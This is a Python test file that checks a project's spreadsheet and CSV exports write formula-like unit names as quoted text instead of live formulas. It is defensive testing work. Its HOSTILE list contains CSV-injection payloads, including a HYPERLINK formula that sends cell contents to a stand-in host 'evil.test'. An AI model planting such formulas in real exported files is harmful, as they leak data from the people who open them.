"""A stored text that looks like a formula ("=HYPERLINK(…)", "+84…", "@SUM(…)") is written as text in every
spreadsheet the project hands out: the weekly .xlsx, the web list exports and the hierarchy export; numbers,
negative ones too, stay numbers. Each file is read back with openpyxl (no cell is a formula) or as CSV."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from formats.spreadsheet import as_text, from_csv, to_csv
from hierarchy.files import read_units, write_units
from hierarchy.generate import small_quang_tri_2017
from hierarchy.workbook import write_workbook
from storage.models import ObligationRow, UnitRow
from web.export import csv_chunks, xlsx_file
from web.lists import Line

LINK = '=HYPERLINK("http://evil.test/?d="&A1,"Bấm vào đây")'
HOSTILE = [LINK, "+84912345678", "-1+1", "@SUM(A1:A9)", "\tcmd", "\r=1+1"]


def _cells(book: Workbook) -> list[tuple[object, str]]:
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def shown_as_text(path_or_bytes: Path | bytes, text: str) -> None:
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else path_or_bytes.read_bytes()
    book = load_workbook(io.BytesIO(data))
    cells = _cells(book)
    assert all(kind != "f" for _, kind in cells), [c for c in cells if c[1] == "f"]
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_one_helper_marks_formula_like_text_and_leaves_numbers(text: str) -> None:
    cell = as_text(Workbook().active.cell(1, 1, text))  # type: ignore[union-attr]
    assert cell.data_type == "s" and cell.quotePrefix and cell.value == text
    assert to_csv(text) == "'" + text and from_csv(str(to_csv(text))) == text
    negative = as_text(Workbook().active.cell(1, 1, -3))  # type: ignore[union-attr]
    assert negative.data_type == "n" and not negative.quotePrefix and to_csv(-3) == -3
    assert to_csv("Chi bộ thôn 1") == "Chi bộ thôn 1" and from_csv("'Chi bộ") == "'Chi bộ"


def _hostile_units():  # type: ignore[no-untyped-def]
    units = small_quang_tri_2017()
    cells = [u for u in units if u.kind.value == "chi_bo"][: len(HOSTILE)]
    renamed = {u.code: text for u, text in zip(cells, HOSTILE, strict=True)}
    return [replace(u, name=renamed[u.code]) if u.code in renamed else u for u in units]


def test_hierarchy_exports_write_formula_like_names_as_text_and_read_back_the_same(tmp_path: Path) -> None:
    units = [u for u in _hostile_units() if not u.name.startswith(("\t", "\r"))]  # an import refuses those
    write_workbook(units, tmp_path / "don-vi.xlsx")
    write_units(units, tmp_path / "don-vi.csv")
    shown_as_text(tmp_path / "don-vi.xlsx", LINK)
    with (tmp_path / "don-vi.csv").open(encoding="utf-8-sig", newline="") as handle:
        names = [row["ten"] for row in csv.DictReader(handle)]
    assert "'" + LINK in names and "'+84912345678" in names and LINK not in names
    for path in (tmp_path / "don-vi.xlsx", tmp_path / "don-vi.csv"):
        back, _ = read_units(path)
        assert {u.code: u.name for u in back} == {u.code: u.name for u in units}


def test_web_list_exports_write_formula_like_names_as_text() -> None:
    due = datetime(2017, 6, 30, 10, tzinfo=UTC)
    lines = [Line(ObligationRow(period=0, due_at=due, status="overdue", escalation_step=2, submitted_at=None),
                  UnitRow(code=f"CB-{i}", name=text, kind="chi_bo"), title=LINK, area=text, days_late=-1 if i else 3)
             for i, text in enumerate(HOSTILE)]
    with xlsx_file(lines, title=LINK) as handle:
        data = handle.read()
    shown_as_text(data, LINK)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet.cell(4, 9).value == -1 and sheet.cell(4, 9).data_type == "n"
    text = b"".join(csv_chunks(lines)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'" + LINK and rows[2][1] == "'+84912345678" and rows[1][5] == "'" + LINK
    assert rows[2][8] == "-1"  # a number, not a text: no quote
